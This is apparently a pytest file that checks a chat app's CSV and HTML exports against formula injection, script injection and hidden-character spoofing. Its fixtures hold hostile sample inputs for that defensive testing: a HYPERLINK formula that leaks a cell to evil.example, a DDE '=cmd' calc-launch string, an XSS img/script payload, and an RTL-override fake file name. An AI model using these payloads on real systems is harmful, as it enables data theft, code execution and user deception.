"""Exports for spreadsheets and for reading: nothing in them computes, runs, fetches or hides."""

import csv
import html.parser
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from store_at_hand import ANA, Store, deletes, edits, reacts, received, sent, status

from multichat_desktop.services import export_csv, export_html

FORMULA = '=HYPERLINK("http://evil.example?"&A1;"Clique")'
MARKUP = '<img src="http://evil.example/x.png" onerror="alert(1)"></p><script>alert(1)</script>&amp;'
HIDING = "fatura\u202efdp.exe\x1b[2J\x00\u2066"


@pytest.fixture
def told(tmp_path: Path) -> Iterator[Store]:
    with Store(tmp_path) as store:
        store.take(
            received("M1", 'Olá!\nTudo bem? "ok"; 1,5', name="Ana"),
            received("M2", FORMULA, 1, name=FORMULA),
            received("M3", MARKUP, 2, "5511900002002", name=MARKUP),
            received("M4", HIDING, 3),
            received(
                "M5",
                {
                    "documentMessage": {
                        "fileName": "=1+1.pdf",
                        "mimetype": "application/pdf",
                        "caption": "@SUM(1)",
                    }
                },
                4,
            ),
            sent("S1", "Oi, Ana", 5),
            status("S1", "READ", 6),
            received("=cmd|' /C calc'!A0", "x", 7),
            received("M6", "apagada", 8),
            received("E1", edits("M1", "Editada"), 9),
            received("E2", deletes("M6"), 10),
            received("E3", reacts("S1", "👍"), 11),
        )
        yield store


def table(store: Store, **asked: object) -> list[dict[str, str]]:
    raw = store.ask_reader(lambda r: b"".join(line + b"\n" for line in export_csv.lines(r, **asked)))
    rows = list(csv.reader(io.StringIO(raw.decode(), newline=""), strict=True))
    assert {len(row) for row in rows} == {len(rows[0])}
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_the_table(told: Store) -> None:
    rows = {row["message_id"]: row for row in table(told)}
    assert len(rows) == 8
    assert rows["M1"]["text"] == "Editada"
    assert rows["M1"]["edited"] == "true"
    assert rows["S1"]["status"] == "read"
    assert rows["S1"]["reactions"].startswith(f"👍 {ANA} 20")
    assert "read 20" in rows["S1"]["status_history"]
    assert rows["M6"]["text"] == ""
    assert rows["M5"]["media_state"] == "waiting"
    chat = rows["M3"]["chat_id"]
    assert [row["message_id"] for row in table(told, chat_id=chat)] == ["M3"]


def test_no_cell_of_it_is_a_formula(told: Store) -> None:
    rows = table(told)
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r|")]
    assert f"'{FORMULA}" in cells
    assert "'=1+1.pdf" in cells
    assert "'@SUM(1)" in cells
    assert "'=cmd|' /C calc'!A0" in cells


@pytest.mark.parametrize(
    "text", ["=1", "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", "  =1", "\u200b=1", "\ufeff=1", "＝1", "＋1", "－1", "＠x",
             "−1", "\u00a0=1", "|x", "\u202e=1", "\x00=1", "'=1", '"=1', "\tx"]
)  # fmt: skip
def test_what_a_spreadsheet_would_compute_is_marked_as_text(text: str) -> None:
    assert export_csv.inert(text)[0] == "'"


@pytest.mark.parametrize("text", ["", "Olá = oi", "5511900001001", "R$ 2,90", "1-2", "😀", "a@b"])
def test_plain_words_are_left_alone(text: str) -> None:
    assert export_csv.inert(text) == text


def test_nothing_hides_in_the_table(told: Store) -> None:
    text = next(row["text"] for row in table(told) if row["message_id"] == "M4")
    assert text == "fatura\ufffdfdp.exe\ufffd[2J\ufffd"


# ---------------------------------------------------------------- the page


class Page(html.parser.HTMLParser):
    """What a browser makes of it."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str | None]] = set()
        self.data: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(attrs)

    def handle_data(self, data: str) -> None:
        self.data.append(data)


def page(store: Store, **asked: object) -> str:
    return store.ask_reader(lambda r: b"\n".join(export_html.lines(r, **asked)).decode())


def test_the_page_shows_the_messages(told: Store) -> None:
    text = page(told)
    said = "".join(Page(text).data)
    for words in ("Editada", FORMULA, MARKUP, "Oi, Ana", "=1+1.pdf", "@SUM(1)", "👍", "✎", "🗑", "✓✓ ●"):
        assert words in said, words
    assert "apagada" not in text
    assert text.index("Editada") < text.index("Oi, Ana")
    assert page(told, chat_id="none").count("<article") == 0


def test_nothing_in_the_page_runs_or_is_fetched(told: Store) -> None:
    text = page(told)
    found = Page(text)
    plain = {
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "h2",
        "article",
        "header",
        "b",
        "time",
        "p",
        "footer",
    }
    assert found.tags <= plain
    names = {name for name, _ in found.attributes}
    assert names <= {"lang", "charset", "http-equiv", "content", "name", "dir", "class", "datetime"}
    assert "default-src 'none'" in text
    assert "url(" not in text
    assert "@import" not in text


def test_nothing_hides_in_the_page(told: Store) -> None:
    text = page(told)
    assert "fatura\ufffdfdp.exe\ufffd[2J\ufffd" in text
    assert not {"\u202e", "\x1b", "\x00", "\u2066"} & set(text)
    assert 'dir="auto"' in text
